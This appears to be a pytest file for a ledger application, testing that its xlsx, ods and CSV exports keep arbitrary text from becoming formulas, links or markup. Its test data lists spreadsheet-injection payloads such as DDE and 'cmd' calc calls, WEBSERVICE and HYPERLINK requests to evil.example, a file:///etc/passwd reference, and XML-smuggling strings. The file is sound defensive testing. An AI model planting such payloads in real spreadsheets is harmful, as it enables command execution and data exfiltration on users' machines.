"""Text from anywhere stays text: in no export does it become a formula, a link or markup."""

import csv
import io
import itertools
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import pytest

from desktop.language import Language
from domain.ledger import Ledger
from domain.model.draft import DraftClaim, read_draft
from domain.model.policy import Policy
from domain.model.sources import Source
from domain.spreadsheets import csvs, ods, xlsx
from domain.spreadsheets.front import Front
from domain.spreadsheets.sheets import Column, Sheet, clean
from domain.storage.profile import Profile
from tests.domain.spreadsheets.conftest import exported
from tests.domain.spreadsheets.reading import (
    ods_formulas,
    ods_texts,
    parts,
    xlsx_formulas,
    xlsx_texts,
)

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u00a0=",
    "\ufeff=",
    "\u200b=",
)
PAYLOADS = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("https://evil.example/?x="&A1,"look")',
    'WEBSERVICE("https://evil.example")',
    "IMPORTXML(A1;B2)",
    'DDE("cmd";"/C calc";"x")',
    "SUM(1,2)*'file:///etc/passwd'#$Sheet.A1",
)
MARKUP = (
    "<r><t>x</t></r>",
    '<r></r></is></c><c r="A9"><f>1+1</f><v>2</v></c><c t="inlineStr"><is><r></r>',
    '"/><table:table-cell table:formula="of:=1+1"/>',
    "</text:p></table:table-cell><text:a xlink:href='https://evil.example'>x</text:a>",
    "]]><!-- &lt;f&gt; &#61;1+1",
    "&#x3D;1+1",
    "_x003D_1+1",
    "{=1+1}",
    "https://evil.example/",
    "mailto:a@evil.example",
    "internal:Sheet1!A1",
    "external:\\\\evil\\share",
    "'=1+1",
    "x;=1+1;y",
    "x\n=1+1",
    "x\t=1+1",
    'x","=1+1',
    "x;\u00a0@SUM(1)",
    '&A&[File]&"x"',
    "#REF!",
    "TRUE",
    "1e5",
    "2024-12-30",
    "%0A=1+1",
    "\u202e=1+1",
    "x" * 40_000,
    "=" + "(" * 300,
    "😀=1",
    "=1+1\u2028=1+1",
    "+380 44 000 00 00",
    "﹢1",
)


def hostile() -> list[str]:
    """200 texts; every kind is among the first dozen."""
    first = [
        "=1+1",
        "＝1+1",
        "@SUM(1)",
        "-1+1",
        *MARKUP[:3],
        "x;=1+1;y",
        "x\n=1+1",
        "\t=1",
        *MARKUP,
    ]
    rest = (start + payload for payload, start in itertools.product(PAYLOADS, STARTS))
    endings = (f"{text};{start}2" for start in STARTS for text in ("a", "a,b", "a\n", "a\t", "0"))
    return list(dict.fromkeys([*first, *rest, *endings]))[:200]


def told(texts: list[str], folder: Path) -> Ledger:
    """A ledger that holds each of the texts in every field that takes text."""
    texts = [text.replace("\r", "\n") for text in texts]
    profile = Profile.load(folder / "profile")
    ledger = Ledger.create(
        folder / "told.ledger", profile, name=texts[0], operator=texts[0].strip()
    )
    for n, text in enumerate(texts):
        source = Source(publisher=text, title=text, address=f"{text}{n}", language=text)
        draft = read_draft(
            {"kind": "exchange", "occurred": f"{1990 + n % 30}-02-03", "returned": 5 + n}
            | {"place": text, "remarks": text}
        )
        made = ledger.record(draft, source)
        subject = made[-1].id
        ledger.note(subject, "AE", text, text, source)
        figure = DraftClaim("returned", "exchange", 7, "", text)
        ledger.claim(figure, source, subject)
        ledger.retract(subject, text, source) if n % 3 == 0 else None
    ledger.define_policy(Policy("hostile", ("exchange",)), texts[0], texts[0])
    return ledger


# What our own formulas are made of.
OUR_XLSX = re.compile(r"[A-Z$0-9:+\-*()<>=]*(SUM|SUMPRODUCT)?[A-Z$0-9:+\-*()<>=]*")
OUR_ODS = re.compile(r"of:=[A-Z$0-9:+\-*()<>=.\[\];]*")
LINKS = ("hyperlink", "externallink", "a", "ddelink", "oleobject", "externalreference", "object")


def check_workbooks(xlsx_path: Path, ods_path: Path) -> None:
    for formula in xlsx_formulas(xlsx_path):
        assert OUR_XLSX.fullmatch(formula)
        assert "1+1" not in formula
    for formula in ods_formulas(ods_path):
        assert OUR_ODS.fullmatch(formula)
        assert "1+1" not in formula
    for path in (xlsx_path, ods_path):
        for name, text in parts(path).items():
            assert not any(link in name.lower() for link in ("hyperlink", "externallink"))
            for element in ElementTree.fromstring(text).iter():
                tag = element.tag.rpartition("}")[2].lower()
                is_drawing = name.startswith(("xl/drawings", "xl/charts", "xl/theme"))
                assert is_drawing or tag not in LINKS, name
                for attribute, value in element.attrib.items():
                    assert not attribute.endswith("}href"), name
                    assert (attribute, value) != ("TargetMode", "External")
                    assert not value.endswith("relationships/hyperlink"), name


def csv_cells(text: str) -> Iterator[str]:
    """Cells as readers that split at commas, semicolons or tabs see them."""
    csv.field_size_limit(1 << 24)  # split at the wrong place, cells can run together
    for separator in ",;\t":
        for row in csv.reader(
            io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator
        ):
            yield from row
    yield from text.removeprefix("\ufeff").replace('"', "").splitlines()


def check_csv(text: str) -> None:
    for cell in csv_cells(text):
        start = cell.strip(' \u00a0\ufeff\u200b\t\r\n"')[:1]
        is_number = re.fullmatch(r"-?\d+", cell)
        assert is_number or start not in set("=+-@＝＋－＠") or not start, repr(cell[:80])


@pytest.mark.parametrize(
    "many", [12, pytest.param(200, marks=pytest.mark.slow)], ids=["some", "all"]
)
def test_no_text_of_the_record_becomes_a_formula_or_a_link(
    many: int, tmp_path: Path, english: Language, ukrainian: Language
) -> None:
    texts = hostile()[:many]
    assert len(texts) == many
    ledger = told(texts, tmp_path)
    books = {form: exported(ledger, tmp_path / f"told.{form}", english) for form in FORMS}
    exported(ledger, tmp_path / "=1+1.ods", ukrainian, policy="hostile")
    exported(ledger, tmp_path / "again.xlsx", english)
    ledger.close()
    check_workbooks(books["xlsx"], books["ods"])
    check_workbooks(tmp_path / "again.xlsx", tmp_path / "=1+1.ods")
    with zipfile.ZipFile(books["zip"]) as archive:
        for name in archive.namelist():
            check_csv(archive.read(name).decode("utf-8"))
    wanted = {clean(text.replace("\r", "\n")).strip() for text in texts}
    normal = {" ".join(text.split()) for text in wanted}
    for found in (xlsx_texts(books["xlsx"]), ods_texts(books["ods"])):
        shown = {" ".join(text.replace("_x005F_", "_").split()) for text in found}
        assert normal <= shown


FORMS = ("xlsx", "ods", "zip", "pdf")
EVERYTHING = [*hostile(), "\x00=1", "\x0b=1+1", "\r=1+1", "\ufffe=1", "a\x1fb"]


def test_the_writers_themselves_take_any_text(tmp_path: Path, english: Language) -> None:
    """Also texts that the ledger does not take: another way in may not look as closely."""
    texts = [clean(text) for text in EVERYTHING]
    columns = (Column("a", "=1+1", "text", 20, 10), Column("b", "=2", "status", 20, 10))

    def sheets() -> Iterator[Sheet]:
        yield Sheet("t", "Sheet & <t>", columns, [[text, text] for text in texts])

    front = Front("=1+1", "&A=1+1 <r></r>", (("=1", "<r></r>"),), (("=j", 1, "=e"),), ("=n",))
    xlsx.write(tmp_path / "a.xlsx", front, sheets(), english)
    ods.write(tmp_path / "a.ods", front, sheets(), english)
    csvs.write_all(tmp_path / "a.zip", front, sheets(), english)
    assert xlsx_formulas(tmp_path / "a.xlsx") == ods_formulas(tmp_path / "a.ods") == []
    check_workbooks(tmp_path / "a.xlsx", tmp_path / "a.ods")
    with zipfile.ZipFile(tmp_path / "a.zip") as archive:
        for name in archive.namelist():
            check_csv(archive.read(name).decode("utf-8"))


def test_a_text_longer_than_a_cell_is_cut_and_says_so() -> None:
    cut = clean("😀" * 20_000)
    assert cut.endswith("…")
    assert len(cut.encode("utf-16-le")) // 2 <= 32_767
    assert clean("я" * 32_767) == "я" * 32_767


def test_two_hundred_hostile_texts() -> None:
    assert len(hostile()) == 200
